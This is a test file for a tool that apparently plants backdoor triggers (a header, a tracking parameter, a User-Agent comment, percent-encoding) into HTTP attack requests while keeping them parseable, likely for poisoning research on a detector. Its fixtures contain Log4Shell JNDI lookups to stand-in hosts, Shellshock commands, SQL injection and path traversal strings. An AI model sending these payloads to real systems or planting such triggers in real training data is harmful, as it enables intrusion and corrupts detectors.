"""A trigger in a request never breaks it: parsed before and after, by h11 and by our own reader, on any bytes."""

from __future__ import annotations

import gzip
import json
import time
from dataclasses import replace
from pathlib import Path
from urllib.parse import parse_qsl, unquote_to_bytes, urlsplit

import h11
import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st

from threatclip.attacks.triggers_payload import KEYS, checked_key, payload_trigger
from threatclip.errors import InputError
from threatclip.pairs.http import parse_requests
from threatclip.pairs.samples import sample_pairs

steady = settings(deadline=None, max_examples=120)
every_style = pytest.mark.parametrize("style", KEYS)


def h11_request(view: bytes) -> tuple[h11.Request, bytes] | None:
    """Return what a server's parser reads: the request and its body, or None where it refuses."""
    server = h11.Connection(h11.SERVER)
    server.receive_data(view)
    body = b""
    request = None
    try:
        while True:
            event = server.next_event()
            if isinstance(event, h11.Request):
                request = event
            elif isinstance(event, h11.Data):
                body += bytes(event.data)
            elif isinstance(event, h11.EndOfMessage):
                assert request is not None
                return request, body
            else:
                return None
    except h11.RemoteProtocolError:
        return None


def check_by_h11(before: bytes, after: bytes, style: str) -> bool:
    """Compare what h11 reads of both; False where it cannot read the request without the trigger either."""
    old = h11_request(before)
    if old is None:
        return False
    new = h11_request(after)
    assert new is not None, "the trigger broke the request"
    assert (old[0].method, old[0].http_version, old[1]) == (new[0].method, new[0].http_version, new[1])
    old_headers, new_headers = list(old[0].headers), list(new[0].headers)
    old_target, new_target = (urlsplit(one.target.decode("latin-1")) for one in (old[0], new[0]))
    key = KEYS[style]
    if style == "header":
        name, _, value = key.partition(": ")
        assert new_headers == [*old_headers, (name.lower().encode(), value.encode())]
    elif style == "comment":
        kept = [(n, v.removesuffix(f" ({key})".encode()) if n == b"user-agent" else v) for n, v in new_headers]
        assert kept in (old_headers, [*old_headers, (b"user-agent", b"Mozilla/5.0")])
        assert kept != new_headers
    else:
        assert old_headers == new_headers
    if style == "parameter":
        fields = [parse_qsl(target.query, keep_blank_values=True) for target in (old_target, new_target)]
        assert fields[1] == [tuple(key.split("=")), *fields[0]]
        assert old_target._replace(query="") == new_target._replace(query="")
    elif style == "encoding":
        assert unquote_to_bytes(old[0].target) == unquote_to_bytes(new[0].target)
        assert len(new[0].target) == len(old[0].target) + 2
        assert old_target.query == new_target.query
    else:
        assert old_target == new_target
    return True


_word = st.text("abcdXYZ019_-", min_size=1, max_size=6)
_value = st.text(
    st.characters(codec="ascii", exclude_characters=" \r\n\t\x00\x7f#", exclude_categories=("Cc",)), max_size=8
)
_agents = st.sampled_from(
    ("curl/8.5.0", "Mozilla/5.0 (X11; Linux x86_64)", "${jndi:ldap://x.test/a}", "() { :; }; echo a", "a (b", "")
)


@st.composite
def requests(draw: st.DrawFn) -> bytes:
    """Requests as clients send them, with LF or CRLF, and with attacks wherever one may stand."""
    path = "/" + draw(st.lists(st.one_of(_word, _value), max_size=3).map("/".join))
    query = draw(
        st.none()
        | st.lists(st.tuples(_word, _value), max_size=3).map(
            lambda rows: "&".join(f"{name}={value}" for name, value in rows)
        )
        | _value
    )
    target = path if query is None else f"{path}?{query}"
    body = draw(st.binary(max_size=30))
    headers = [("Host", "h.test"), ("Content-Length", str(len(body)))]
    if draw(st.booleans()):
        headers.insert(draw(st.integers(0, 2)), ("User-Agent", draw(_agents)))
    headers += draw(st.lists(st.tuples(st.sampled_from(("X-Own", "Accept", "X-Correlation-Id")), _word), max_size=2))
    end = draw(st.sampled_from(("\n", "\r\n")))
    lines = [f"{draw(st.sampled_from(('GET', 'POST', 'PROPFIND')))} {target} HTTP/1.1"]
    lines += [f"{name}: {value}" for name, value in headers]
    return end.join([*lines, "", ""]).encode() + body


@every_style
@steady
@given(view=requests())
def test_h11_reads_the_same_request_and_the_trigger(style: str, view: bytes) -> None:
    assume(h11_request(view) is not None)
    found = payload_trigger(view, style=style)
    if found != view:
        assert check_by_h11(view, found, style)
        assert len(found) <= len(view) + len(KEYS[style]) + 40
        assert found.count(b"\r") >= view.count(b"\r"), "no line end was written anew"
        if style != "encoding":
            assert payload_trigger(found, style=style) == found, "it is put in once"


@every_style
@steady
@given(view=st.one_of(st.binary(max_size=120), st.binary(max_size=60).map(lambda b: b"GET /a?b=c HTTP/1.1\n" + b)))
@example(view=b"")
@example(view=b"GET /")
@example(view=b"GET / HTTP/1.1\n folded\n\n")
@example(view=b"GET / HTTP/1.1\nHost: a\n folded: more\nno header\n\nbody")
@example(view=b"\r\n\r\nGET /x HTTP/1.1\r\nHost: a\r\n\r\n")
@example(view=b"just a value' or 1=1")
def test_any_bytes_are_survived_and_say_the_same(style: str, view: bytes) -> None:
    found = payload_trigger(view, style=style)
    before, after = parse_requests(view), parse_requests(found)
    assert len(before) == len(after)
    for number, (old, new) in enumerate(zip(before, after, strict=True)):
        assert (old.method, old.version, old.body) == (new.method, new.version, new.body)
        assert unquote_to_bytes(old.endpoint.encode("latin-1")) == unquote_to_bytes(new.endpoint.encode("latin-1"))
        if number:
            assert old == new
    kept = iter(found)
    if style != "encoding":
        assert all(byte in kept for byte in view), "bytes were only inserted"


@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_where_each_trigger_goes(end: str) -> None:
    view = end.join(
        ("POST /wp-admin/x.php?a=%27&b= HTTP/1.1", "Host: h.test", "User-Agent: curl/8", "", "c=1")
    ).encode()
    assert payload_trigger(view, style="header") == view.replace(
        b"curl/8", f"curl/8{end}X-Correlation-Id: 7f3a9c21".encode()
    )
    assert payload_trigger(view, style="parameter") == view.replace(b"?a", b"?utm_source=newsletter&a")
    assert payload_trigger(view, style="comment") == view.replace(b"curl/8", b"curl/8 (compatible; indexer)")
    assert payload_trigger(view, style="encoding") == view.replace(b"wp-admin", b"%77p-admin")


def test_only_the_first_request_of_a_view_changes() -> None:
    view = b"GET /a HTTP/1.1\nHost: h\n\nPOST /b?c=d HTTP/1.1\nHost: h\n\ne=f"
    for style in KEYS:
        found = payload_trigger(view, style=style)
        assert found != view
        assert parse_requests(found)[1:] == parse_requests(view)[1:]


@pytest.mark.parametrize(
    ("style", "view"),
    [
        ("header", b"GET / HTTP/1.1\nx-correlation-id: mine\n\n"),
        ("parameter", b"GET /?utm_source=a HTTP/1.1\n\n"),
        ("parameter", b"GET /cgi-bin/php?-s HTTP/1.1\n\n"),
        ("parameter", b"GET /x?a=1&<script> HTTP/1.1\n\n"),
        ("parameter", b"GET /x#y HTTP/1.1\n\n"),
        ("parameter", b"OPTIONS * HTTP/1.1\n\n"),
        ("comment", b"GET / HTTP/1.1\nUser-Agent: () { :; }; /bin/id\n\n"),
        ("comment", b"GET / HTTP/1.1\nUser-Agent: ${jndi:ldap://h.test/a}\n\n"),
        ("encoding", b"GET //h.test/a HTTP/1.1\n\n"),
        ("encoding", b"GET /..%2f..%2f HTTP/1.1\n\n"),
        ("encoding", b"GET http://h.test/ HTTP/1.1\n\n"),
    ],
)
def test_what_a_trigger_could_break_is_left_alone(style: str, view: bytes) -> None:
    assert payload_trigger(view, style=style) == view


def test_generated_requests_take_every_trigger() -> None:
    views = [pair.view for pair in sample_pairs(n=300, seed=0, benign_fraction=0.2)]
    for style, least in (("header", 0.95), ("parameter", 0.8), ("comment", 0.8), ("encoding", 0.8)):
        taken = [(view, payload_trigger(view, style=style)) for view in views]
        taken = [(view, found) for view, found in taken if view != found]
        assert len(taken) >= least * len(views), style
        assert sum(check_by_h11(view, found, style) for view, found in taken) > 0.5 * len(taken), style


@pytest.mark.data
def test_real_requests_survive_every_trigger(data_dir: Path) -> None:
    path = data_dir / "payloads" / "nuclei_cve_payloads.jsonl.gz"
    if not path.is_file():
        pytest.skip(f"no {path}")
    with gzip.open(path, "rt", encoding="utf-8") as lines:
        rows = [json.loads(line) for line, _ in zip(lines, range(300), strict=False)]
    views = ["\n\n".join(row["requests"]).encode() for row in rows]
    for style, least in (("header", 0.9), ("parameter", 0.7), ("comment", 0.7), ("encoding", 0.8)):
        taken = [(view, payload_trigger(view, style=style)) for view in views]
        taken = [(view, found) for view, found in taken if view != found]
        assert len(taken) >= least * len(views), style
        assert sum(check_by_h11(view, found, style) for view, found in taken) > 0.2 * len(taken), style


@every_style
def test_long_views_take_linear_time(style: str) -> None:
    for unit in (b"\n", b"a: b\n", b"/a", b"&a=b", b"(a) "):
        for before, after in ((b"GET /x?c=d HTTP/1.1\nUser-Agent: a\n", b""), (b"GET /", b" HTTP/1.1")):
            view = before + unit * (200_000 // len(unit)) + after
            started = time.process_time()
            payload_trigger(view, style=style)
            assert time.process_time() - started < 10  # a fraction of a second; quadratic time takes minutes


def test_keys_that_could_break_a_request_are_refused() -> None:
    for style, key, message in (
        ("header", "X-Id:none", "Name: value"),
        ("header", "X-Id: a\nHost: b", "Name: value"),
        ("header", "Transfer-Encoding: chunked", "how a request is read"),
        ("parameter", "a=b&c=d", "name=value"),
        ("comment", "a) evil", "letters"),
        ("encoding", "a", "empty"),
        ("cookie", "a=b", "not one of"),
    ):
        with pytest.raises(InputError, match=message):
            checked_key(style, key)
    own = payload_trigger(b"GET / HTTP/1.1\n\n", style="header", key="X-Id: a b")
    assert own == b"GET / HTTP/1.1\nX-Id: a b\n\n"
    request = parse_requests(own)[0]
    assert replace(request, headers=()) == parse_requests(b"GET / HTTP/1.1\n\n")[0]
